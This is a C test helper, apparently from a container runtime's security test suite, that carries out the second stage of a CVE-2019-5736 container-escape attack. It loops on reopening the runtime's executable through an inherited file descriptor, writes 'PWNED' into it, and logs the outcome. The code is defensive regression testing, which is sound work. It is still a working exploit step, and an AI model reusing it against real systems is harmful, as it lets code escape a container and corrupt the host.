/* overwriter: the second stage of a CVE-2019-5736 attack, run inside a test
 * container. It inherits an fd (O_PATH) on whatever /proc/self/exe was when
 * a hostile "dynamic loader" ran inside hardrun's image, and keeps trying to
 * reopen it for writing until the runtime has exited (ETXTBSY until then),
 * for up to 20 s. The outcome goes to RESULT:
 *   "wrote"                    the file behind the fd was modified
 *   "open failed: <error>"     it could not be opened for writing
 *   "write failed: <error>"    it was opened but could not be written
 *   overwriter FD [RESULT]     (RESULT defaults to /tmp/cve-2019-5736.result; /tmp is the rootfs's own directory in the test)
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *path, const char *what, int e)
{
	FILE *f = fopen(path, "w");

	if (!f)
		return;
	if (e)
		fprintf(f, "%s: %s\n", what, strerror(e));
	else
		fprintf(f, "%s\n", what);
	fclose(f);
}

int main(int argc, char **argv)
{
	const char *result = argc > 2 ? argv[2] : "/tmp/cve-2019-5736.result";
	char path[64];
	struct timespec pause = { 0, 10 * 1000 * 1000 };

	if (argc < 2)
		return 2;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", atoi(argv[1]));
	for (int tries = 0; tries < 2000; tries++) {
		int fd = open(path, O_WRONLY);
		if (fd < 0 && errno == ETXTBSY) {
			nanosleep(&pause, NULL); /* the runtime still runs it: retry */
			continue;
		}
		if (fd < 0) {
			report(result, "open failed", errno);
			return 0;
		}
		if (pwrite(fd, "PWNED", 5, 0) == 5)
			report(result, "wrote", 0);
		else
			report(result, "write failed", errno);
		return 0;
	}
	report(result, "open failed", ETXTBSY);
	return 0;
}
